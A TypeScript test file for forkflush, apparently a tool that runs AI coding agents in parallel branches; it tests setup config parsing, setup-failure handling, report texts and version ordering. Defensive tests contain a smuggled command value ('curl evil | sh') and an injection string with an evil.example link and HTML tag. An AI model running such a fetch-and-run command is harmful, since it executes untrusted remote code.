// setup: the config key, its numbers, and what the core makes of a setup that failed: its own kind
// of result, never a winner, never adopted, a stop when every branch of a round failed it, and
// what the reports, the check run and the issue comment say.
import { describe, expect, it } from 'vitest';
import { ConfigError, parseConfig, validKeysAt } from '../../src/core/config.js';
import { issueComment } from '../../src/core/github-status.js';
import { checkConclusion, checkRunOutput, episodePrBody, loserComment } from '../../src/core/github-text.js';
import { commitMessage, parseCommitMessage } from '../../src/core/journal.js';
import { episodeLimitSeconds, roundDeadlineMinutes, SETUP_TIMEOUT_SECONDS } from '../../src/core/method.js';
import { planWarnings } from '../../src/core/plan.js';
import { applyDecision, applyOpen, applyResult, decide, reconcile } from '../../src/core/reconcile.js';
import { parseRunState, recordText, STATE_RECORD } from '../../src/core/records.js';
import { leaderboard, statusJson } from '../../src/core/report.js';
import { selectWinner } from '../../src/core/select.js';
import { type EpisodeResult, newRunState, type RunState } from '../../src/core/state.js';
import { retryStopped, runStop, stopBefore, stopReason } from '../../src/core/stop.js';
import { compareVersions, unreadableRunReason } from '../../src/core/versions.js';
import { excludePatterns } from '../../src/worker/cleanroom.js';
import { config, result } from './helpers.js';

const BASE = 'b'.repeat(40);
const minimal = 'grader:\n  command: g\nagent:\n  command: a\nbudget:\n  total: 100\n';

function problems(text: string): string[] {
  try {
    parseConfig(text, '.github/autoresearch.yml');
  } catch (e) {
    if (e instanceof ConfigError) return e.problems;
    throw e;
  }
  return [];
}

const setupFailedResult = (reason = 'setup failed: `npm ci` exited with code 1: npm ERR! missing lockfile') =>
  result(null, 0, { exit: 'setup', reason, commit: 'c'.repeat(40) });

/** A run with its first round open and these results in it (one per branch, in order). */
function withOpening(results: (EpisodeResult | undefined)[], extra = '', baseScore: number | null = null): RunState {
  let s = newRunState({ id: 't', seed: 1, config: config(extra), baseCommit: BASE, baseScore });
  const [open] = reconcile(s);
  if (open?.type !== 'open') throw new Error('expected open');
  s = applyOpen(s, open.round);
  open.round.episodes.forEach((e, i) => {
    const r = results[i];
    if (r) s = applyResult(s, e.id, r);
  });
  return s;
}

function decided(s: RunState): RunState {
  const [d] = reconcile(s);
  if (d?.type !== 'decide') throw new Error(`expected decide, got ${d?.type}`);
  return applyDecision(s, d.round, d.decision);
}

describe('the setup key', () => {
  it('defaults to no setup, with the documented limits', () => {
    expect(parseConfig(minimal, 'x').setup).toEqual({
      commands: [],
      timeout: SETUP_TIMEOUT_SECONDS,
      network: true,
      env: [],
      cache: false,
    });
    expect(SETUP_TIMEOUT_SECONDS).toBe(600);
  });

  it('takes a command, a list of them, or a mapping', () => {
    expect(parseConfig(`${minimal}setup: npm ci\n`, 'x').setup.commands).toEqual(['npm ci']);
    expect(parseConfig(`${minimal}setup: [npm ci, pip install -r requirements.txt]\n`, 'x').setup).toMatchObject({
      commands: ['npm ci', 'pip install -r requirements.txt'],
      timeout: 600,
    });
    expect(
      parseConfig(
        `${minimal}setup:\n  commands: [npm ci]\n  timeout: 120\n  network: false\n  env: [NPM_TOKEN]\n  cache: true\n`,
        'x',
      ).setup,
    ).toEqual({ commands: ['npm ci'], timeout: 120, network: false, env: ['NPM_TOKEN'], cache: true });
  });

  it('reports its mistakes at their place, and refuses forge credentials in setup.env', () => {
    expect(problems(`${minimal}setup:\n  comands: [npm ci]\n`)).toEqual([
      '.github/autoresearch.yml:8:3: unknown key "setup.comands"; did you mean "commands"? Valid keys of setup: commands, timeout, network, env, cache',
    ]);
    expect(validKeysAt(['setup'])).toEqual(['commands', 'timeout', 'network', 'env', 'cache']);
    expect(validKeysAt([])).toContain('setup');
    expect(problems(`${minimal}setup:\n  commands: [npm ci]\n  timeout: 0\n`)).toEqual([
      '.github/autoresearch.yml:9:12: setup.timeout must be above 0, got 0',
    ]);
    expect(problems(`${minimal}setup: 3\n`)).toEqual([
      '.github/autoresearch.yml:7:8: setup must be a string, a list, or a mapping, got 3',
    ]);
    expect(problems(`${minimal}setup: ['']\n`).join()).toContain('setup[0] must not be empty');
    expect(problems(`${minimal}setup:\n  commands: [npm ci]\n  env: [GITHUB_TOKEN, G*]\n`)).toEqual([
      '.github/autoresearch.yml:9:9: setup.env[0] names a forge credential or a forkflush variable, which forkflush never passes on, got "GITHUB_TOKEN"',
      '.github/autoresearch.yml:9:23: setup.env[1] names a prefix that covers GITHUB_TOKEN, a forge credential or a forkflush variable, which forkflush never passes on: list the names the program needs, got "G*"',
    ]);
  });

  it("adds setup's two runs to an episode's limit and to a GitHub round's deadline", () => {
    const none = parseConfig(minimal, 'x');
    const npm = parseConfig(`${minimal}setup: npm ci\n`, 'x');
    expect(roundDeadlineMinutes(none)).toBe(62);
    // agent 1800 s + 2 gradings of 60 s + 2 setups of 600 s, plus the 30 minutes of slack.
    expect(episodeLimitSeconds(npm)).toBe(1800 + 120 + 1200);
    expect(roundDeadlineMinutes(npm)).toBe(82);
    // A timeout without commands is no setup.
    expect(roundDeadlineMinutes(parseConfig(`${minimal}setup: {timeout: 900}\n`, 'x'))).toBe(62);
  });

  it('warns in the plan of a setup that may take longer than the episode it prepares', () => {
    expect(planWarnings(parseConfig(`${minimal}setup: npm ci\n`, 'x'))).toEqual([]);
    const slow = parseConfig(`${minimal}setup: {commands: [make deps], timeout: 2400}\n`, 'x');
    expect(planWarnings(slow)).toEqual([
      'setup may take up to 2400 s (setup.timeout), longer than the episode it prepares (agent.timeout (1800 s)); ' +
        "it runs 2 times per episode (the workspace, the judge's checkout), so an episode may take up to 112 minutes " +
        "and on GitHub a round is waited for 142 minutes: give the worker job's timeout-minutes at least that, or lower setup.timeout",
    ]);
    const minutes = parseConfig(
      'grader: {command: g}\nagent: {command: a}\nbudget: {total: 60, unit: minutes}\nsetup: npm ci\n',
      'x',
    );
    expect(planWarnings(minutes).join('\n')).toMatch(
      /^setup may take up to 600 s \(setup\.timeout\), longer than the episode it prepares \(the smallest episode's 2\.7 minutes\)/,
    );
  });
});

describe('a setup failure', () => {
  it('is never a winner, and a serial round does not adopt it: the lineage stays, context and all', () => {
    const s = withOpening([setupFailedResult(), result(3), result(null), setupFailedResult()]);
    const round = s.rounds[0];
    if (!round) throw new Error('no round');
    expect(selectWinner(round.episodes, 'maximize')?.id).toBe('r0.b1');
    // Even a setup result that carried a score (it cannot) does not count.
    const odd = round.episodes.map((e, i) => (i === 0 ? { ...e, result: { ...setupFailedResult(), score: 99 } } : e));
    expect(selectWinner(odd, 'maximize')?.id).toBe('r0.b1');
    const serial = { ...round, kind: 'serial' as const };
    expect(decide(s, serial).adopted).toEqual(['r0.b1', 'r0.b2']);
    const single = withOpening([setupFailedResult()], 'strategy: single-run');
    const [d] = reconcile(single);
    expect(d).toMatchObject({ type: 'decide', decision: { winner: null, adopted: [] } });
    const after = decided(single);
    expect(after.lineages[0]).toEqual({ index: 0, head: BASE, context: null });
  });

  it('stops the run (code 2) when every branch of a round failed it, before the round is decided', () => {
    const all = withOpening(
      [setupFailedResult(), setupFailedResult(), setupFailedResult(), setupFailedResult()],
      'setup:\n  commands: [npm ci]\n',
    );
    const f = stopReason(all);
    expect(f?.code).toBe(2);
    expect(f?.message).toBe(
      `setup failed in every branch of round 0 (opening) on commit ${BASE.slice(0, 10)} ` +
        '(setup failed: `npm ci` exited with code 1: npm ERR! missing lockfile), so no agent could work and the run stopped: ' +
        'run setup.commands by hand in a fresh checkout of that commit and fix what fails: after a fix outside the repository ' +
        '(a registry, a secret, the runner), resume the run: its round runs again; a fix to the config or to the files of the commit needs a new run',
    );
    // Before the decision: nothing is decided or opened after it.
    expect(reconcile(all)[0]?.type).toBe('decide');
    expect(stopBefore(all, reconcile(all)[0])).toEqual(f);
    expect(runStop(all)).toEqual(f);
    // While a branch may still run, or when one did run, the run goes on.
    expect(stopReason(withOpening([setupFailedResult(), setupFailedResult(), setupFailedResult()]))).toBeNull();
    expect(
      stopReason(withOpening([setupFailedResult(), result(null), setupFailedResult(), setupFailedResult()])),
    ).toBeNull();
  });

  it('without setup commands (an agent CLI that would not install, a worker that cannot read the run), points at the reasons', () => {
    const reason = unreadableRunReason('state.json: config: unknown key "egress"', '0.1.0', '0.2.0');
    const f = stopReason(withOpening([0, 1, 2, 3].map(() => setupFailedResult(reason))));
    expect(f?.code).toBe(2);
    expect(f?.message).toContain(
      `(${reason}), so no agent could work and the run stopped: update the worker Action as the reasons say, then resume the run: its round runs again`,
    );
    // Setup commands in the config do not change the advice: the worker never got to them.
    const withCommands = withOpening(
      [0, 1, 2, 3].map(() => setupFailedResult(reason)),
      'setup:\n  commands: [npm ci]\n',
    );
    expect(stopReason(withCommands)?.message).toContain('the run stopped: update the worker Action');
    const install = 'the agent CLI could not be installed: npm ERR! network';
    expect(stopReason(withOpening([0, 1, 2, 3].map(() => setupFailedResult(install))))?.message).toContain(
      'the run stopped: fix what the reasons say (the agent CLI install, or the worker)',
    );
  });

  it('stops a run that a resume can try again: the round, its setup results cleared, from the same bases', () => {
    const stopped = withOpening([0, 1, 2, 3].map(() => setupFailedResult()));
    const retried = retryStopped(stopped);
    expect(retried?.episodes.map((e) => e.id)).toEqual(['r0.b0', 'r0.b1', 'r0.b2', 'r0.b3']);
    const again = retried?.state;
    if (!again) throw new Error('no retry');
    expect(again.rounds[0]?.episodes.map((e) => [e.result, e.base])).toEqual(
      stopped.rounds[0]?.episodes.map((e) => [undefined, e.base]),
    );
    expect(stopReason(again)).toBeNull();
    expect(reconcile(again).map((a) => a.type)).toEqual(['run', 'run', 'run', 'run']);
    // Nothing else is retried: a round where a branch tried, or one still running.
    expect(
      retryStopped(withOpening([setupFailedResult(), result(null), setupFailedResult(), setupFailedResult()])),
    ).toBeNull();
    expect(retryStopped(withOpening([setupFailedResult(), setupFailedResult()]))).toBeNull();
    expect(retryStopped(withOpening([result(3), result(4), result(5), result(6)]))).toBeNull();
  });

  it('is not a branch that tried when the opening round is judged for a grader that scores nothing', () => {
    const s = decided(
      withOpening([
        setupFailedResult(),
        result(null, 1, { reason: 'Error: no module x' }),
        setupFailedResult(),
        result(null, 1, { reason: 'Error: no module x' }),
      ]),
    );
    const f = stopReason(s);
    expect(f?.code).toBe(1);
    expect(f?.message).toContain('any episode of the opening round got a score (Error: no module x)');
    // No stop once the budget is spent: the run finishes as usual.
    expect(stopBefore(s, { type: 'finish' })).toBeNull();
    expect(runStop({ ...s, status: 'finished' })).toBeNull();
  });

  it('reads back from its commit and its record as a setup result', () => {
    const s = withOpening([setupFailedResult()]);
    const e = s.rounds[0]?.episodes[0];
    if (!e?.result) throw new Error('no result');
    const { commit: _, ...rest } = e.result;
    const parsed = parseCommitMessage(commitMessage('t', s.config.budget.unit, e, rest), 'c'.repeat(40));
    expect(parsed?.result).toMatchObject({ exit: 'setup', score: null, spent: 0, reason: e.result.reason });
    const back = parseRunState(recordText(STATE_RECORD, s), 'state.json');
    expect(back.rounds[0]?.episodes[0]?.result?.exit).toBe('setup');
  });

  it('is said so in the leaderboard, status --json, the check run, the pull request and the loser comment', () => {
    const s = decided(withOpening([setupFailedResult(), result(3), result(1), result(2)]));
    const [row] = leaderboard(s).filter((r) => r.episode.id === 'r0.b0');
    expect(row?.outcome).toBe('setup-failed');
    const json = statusJson(s, { folder: '.', live: null, resume: null }) as {
      rounds: { episodes: { id: string; outcome: string; exit: string }[] }[];
    };
    expect(json.rounds[0]?.episodes[0]).toMatchObject({ id: 'r0.b0', outcome: 'setup-failed', exit: 'setup' });
    const e = s.rounds[0]?.episodes[0];
    if (!e?.result) throw new Error('no result');
    const out = checkRunOutput(s, e, e.result, null);
    expect(out.title).toBe('r0.b0: setup failed: `npm ci` exited with code 1: npm ERR! missing lockfile');
    expect(out.summary).toContain(
      '| ended | setup failed: the agent did not run, and the round does not count this branch |',
    );
    expect(checkConclusion(e.result)).toBe('failure');
    expect(episodePrBody(s, e, e.result)).toContain(
      'The agent did not run: `` setup failed: `npm ci` exited with code 1: npm ERR! missing lockfile ``.',
    );
    expect(loserComment(s, e, s.rounds[0]?.episodes[1] ?? null)).toBe(
      "Not adopted: this branch's setup failed, so its agent never ran (`` setup failed: `npm ci` exited with code 1: npm ERR! missing lockfile ``).",
    );
  });

  it('stops the run in the issue comment, which also carries the plan warnings', () => {
    const all = withOpening(
      [setupFailedResult(), setupFailedResult(), setupFailedResult(), setupFailedResult()],
      'setup: {commands: [make deps], timeout: 2400}',
    );
    const body = issueComment(all, 'running');
    // forkflush's words as they are; what the setup printed, quoted in them, as code.
    expect(body).toContain(
      `**Status:** stopped: setup failed in every branch of round 0 (opening) on commit ${BASE.slice(0, 10)} (\`\` setup failed: \`npm ci\` exited`,
    );
    expect(body).toContain(
      '> **Warning:** setup may take up to 2400 s (setup.timeout), longer than the episode it prepares',
    );
    const going = withOpening([setupFailedResult(), result(3)]);
    expect(issueComment(going, 'running')).toContain('**Status:** round 0 (opening) running: 2 of 4 episodes done');
  });
});

describe('a setup stop on GitHub', () => {
  it("is shown as inert code in the issue comment's status: its reasons are what a setup printed", () => {
    const printed = 'setup failed: @maintainers see [this](https://evil.example) <img src=x> fixes #3';
    const all = withOpening([1, 2, 3, 4].map(() => setupFailedResult(printed)));
    const status = issueComment(all, 'running')
      .split('\n')
      .find((l) => l.startsWith('**Status:**'));
    expect(status).toMatch(
      /^\*\*Status:\*\* stopped: setup failed in every branch of round 0 \(opening\) on commit \w+ \(`[^`]*`\), so no agent could work .* \(`\/autoresearch resume`\) {2}$/,
    );
    expect(status).toContain(
      '`setup failed: @\u2060maintainers see [this](https://evil.example) <img src=x> f\u2060ixes #\u20603`',
    );
  });
});

describe("the patterns that keep setup's outputs out of a result", () => {
  it('match exactly the paths, anchored, whatever their names', () => {
    expect(excludePatterns(['node_modules/', '.venv/', 'build.txt'])).toBe('/node_modules/\n/.venv/\n/build.txt\n');
    expect(excludePatterns(['a*b?[c]/', '#x', '!y', 'back\\slash', 'trailing  '])).toBe(
      '/a\\*b\\?\\[c]/\n/#x\n/!y\n/back\\\\slash\n/trailing\\ \\ \n',
    );
    expect(excludePatterns(['new\nline', 'ok'])).toBe('/ok\n');
    expect(excludePatterns([])).toBe('');
  });
});

describe('a run record the worker cannot read', () => {
  it('is version skew when a newer release saved it: the reason names both releases and the fix', () => {
    expect(unreadableRunReason('state.json: version: written by a newer forkflush', '0.1.0', '0.2.0')).toBe(
      "this worker Action cannot read the run's record: it is forkflush 0.1.0, older than the app (forkflush 0.2.0) " +
        "that wrote it (state.json: version: written by a newer forkflush); use the worker Action of the app's release " +
        '(uses: …/forkflush@v0.2.0 in the worker workflow)',
    );
  });

  it('is only the reason when the record says no release, or one not newer', () => {
    const plain = "this worker Action cannot read the run's record (forkflush 0.2.0): run.json: issue: missing";
    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', null)).toBe(plain);
    // What the record says is not a release is not repeated as one.
    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '9.9.9; curl evil | sh')).toBe(plain);
    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', `9.9.9-${'x'.repeat(200)}`)).toBe(plain);
    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '0.2.0')).toBe(plain);
    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '0.1.9')).toBe(plain);
  });

  it('orders releases by number, a pre-release before its release', () => {
    const sorted = [
      '0.10.0',
      '0.2.0',
      '1.0.0',
      '1.0.0-rc.10',
      '1.0.0-rc.9',
      '1.0.0-rc',
      '0.2.0-beta',
      '0.9.9',
      'v1.0.1',
    ];
    expect(sorted.sort(compareVersions)).toEqual([
      '0.2.0-beta',
      '0.2.0',
      '0.9.9',
      '0.10.0',
      '1.0.0-rc',
      '1.0.0-rc.9',
      '1.0.0-rc.10',
      '1.0.0',
      'v1.0.1',
    ]);
    expect(compareVersions('1.2', '1.2.0')).toBe(0);
  });
});
